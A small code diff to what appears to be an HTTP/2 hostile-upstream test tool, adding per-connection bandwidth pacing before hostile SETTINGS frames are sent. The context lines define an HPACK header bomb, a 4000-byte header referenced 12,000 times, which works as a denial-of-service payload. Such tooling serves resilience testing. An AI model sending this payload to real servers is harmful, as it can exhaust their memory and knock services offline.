@@ -13,6 +13,8 @@ from h2_wire import (ACK, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, PING
 STATUS = literal(":status", "200")
 BOMB = b"\x40" + literal("x-bomb", "v" * 4000)[1:] + b"\xbe" * 12_000
 PIECE = 32 * 1024
+# What a connection costs the link of either side beside its data: SYN, two ACKs and FIN, with their Ethernet frames.
+BYTES_OF_A_CONNECTION = 4 * 84
 NO_STREAM = struct.pack(">HI", 3, 0)  # SETTINGS_MAX_CONCURRENT_STREAMS
 
 
@@ -76,6 +78,7 @@ class Upstreams:
     with connection:
       connection.settimeout(0.5)
       try:
+        attack.pace.wait(BYTES_OF_A_CONNECTION)
         attack.send(connection, frame(SETTINGS, payload=hostile.settings) + frame(SETTINGS, ACK))
         for stream in streams_of(connection, attack.until):
           attack.send(connection, hostile.begin(stream))
